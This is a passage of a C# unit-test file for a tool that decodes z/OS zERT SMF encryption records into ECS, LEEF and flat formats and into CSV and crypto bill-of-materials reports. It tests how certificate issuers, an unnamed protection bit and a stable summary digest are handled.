            Assert.Equal(Convert.ToHexString(bytes.AsSpan(issuerEntry)), json.RootElement.GetProperty("SMF119SC_DN_Unwalked").GetString());
        }
        foreach (var format in new[] { "ecs", "leef", "flat" })
        {
            var decoded = await ForwarderProcess.RunAsync(_work.Path, ["decode", dump, "--format", format], RunLimit);
            Assert.True(decoded.ExitCode == 0, decoded.ToString());
            var line = Assert.Single(decoded.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries));
            Assert.Contains(subject, line, StringComparison.Ordinal);
            Assert.DoesNotContain("Unread Issuing CA", line, StringComparison.Ordinal);
        }

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.Contains("1 zERT records read (1 connection and interval records in the report), 0 rejected.", result.Stdout, StringComparison.Ordinal);
        var session = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv")));
        Assert.Equal(subject, session["server_cert_subject"]);
        Assert.Equal("", session["server_cert_issuer"]);
        using var bom = System.Text.Json.JsonDocument.Parse(File.ReadAllText(_work.Combine("r", "cbom.cdx.json")));
        var certificate = Assert.Single(bom.RootElement.GetProperty("components").EnumerateArray(), c => c.GetProperty("cryptoProperties").GetProperty("assetType").GetString() == "certificate"
            && c.GetProperty("cryptoProperties").GetProperty("certificateProperties").GetProperty("subjectName").GetString() == subject);
        Assert.False(certificate.GetProperty("cryptoProperties").GetProperty("certificateProperties").TryGetProperty("issuerName", out _));
    }

    /// <summary>
    /// A SASecProtos bit the layout does not name (X'10', layout §2.1) is written to ECS as <c>unknown(0x10)</c> in
    /// <c>zos.zert.protection</c> (contract §2.7), while the assessment reads the known bits only. The report took that
    /// label for a protection layer: a connection with only that bit counted as protected in none of the protection
    /// columns (connections 1, connections_none 0), as quantum vulnerable, and as a session of protocol
    /// "unknown(0x10)"; one beside TLS got a second session. The report counts the layers it knows, as the assessment does.
    /// </summary>
    [Fact]
    public async Task A_protection_bit_the_layout_does_not_name_is_no_protection_layer_in_the_report()
    {
        var cleartext = SmfDumpGenerator.GenerateRecords(7, 400, includeForeignRecords: false).Select(r => r.Connection).OfType<ZertConnectionRecord>()
            .First(c => c.Common.EventType == 4 && (c.Common.Flags & 0x10) != 0 && c.Common.SecurityProtocols == 0);
        cleartext.Common.SecurityProtocols = 0x10;
        var tls = TlsServerConnections()[0];
        tls.Common.SecurityProtocols = 0x90;
        cleartext.Common.LocalPort = (ushort)(tls.Common.LocalPort + 1); // two servers, told apart by port
        var dump = WriteDump("unknown-protection-bit.smf", [ZertRecordWriter.ToArray(cleartext), ZertRecordWriter.ToArray(tls)]);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());
        var servers = ReportFiles.ReadCsv(_work.Combine("r", "servers.csv"));
        var cleartextServer = Assert.Single(servers, s => s["server_port"] == cleartext.Common.LocalPort.ToString(CultureInfo.InvariantCulture));
        Assert.Equal(1, cleartextServer.Long("connections"));
        Assert.Equal(1, cleartextServer.Long("connections_none"));
        Assert.Equal("none", cleartextServer["protections"]);
        Assert.Equal(0, cleartextServer.Long("quantum_vulnerable_connections"));
        var tlsServer = Assert.Single(servers, s => s["server_port"] == tls.Common.LocalPort.ToString(CultureInfo.InvariantCulture));
        Assert.Equal(1, tlsServer.Long("connections_tls"));
        Assert.Equal("tls", tlsServer["protections"]);
        var sessions = ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv"));
        Assert.Equal(["none", "tls"], sessions.Select(s => s["protocol"]).Order(StringComparer.Ordinal));
    }

    /// <summary>
    /// A summary read again is recognised by an 8-byte digest of what identifies it. The digest came from
    /// <see cref="HashCode"/>, whose seed is random per process, so which two summaries could be taken for one another
    /// changed from run to run, and with it, however rarely, the report of the same input. The digest is the same in
    /// every process: the value below is the first 8 bytes (little-endian) of the SHA-256 of the summary's identity
    /// ("PLEX1/SYSA/TCPIP", interval end in .NET ticks, session id, server IP, port and client IP joined by X'1F'),
    /// computed outside .NET.
    /// </summary>
    [Fact]
    public void A_summarys_digest_is_the_same_in_every_run()
    {
        using var summary = System.Text.Json.JsonDocument.Parse("""
            {"@timestamp":"2026-03-02T08:15:00.000Z","event":{"dataset":"zos.zert_summary","provider":"TCPIP"},"labels":{"sysplex":"PLEX1","smf_system_id":"SYSA"},
             "server":{"ip":"10.1.1.1","port":443},"client":{"ip":"10.2.2.2"},"zos":{"zert":{"event_type":1,"summary":{"session_id":"T-SYSATCPIP-00000001"}}}}
            """);
        var record = ReportRecord.FromEcs(summary.RootElement)!;
        Assert.Equal(14565073166396243897UL, ReportBuilder.SummaryKey(record));
    }
}
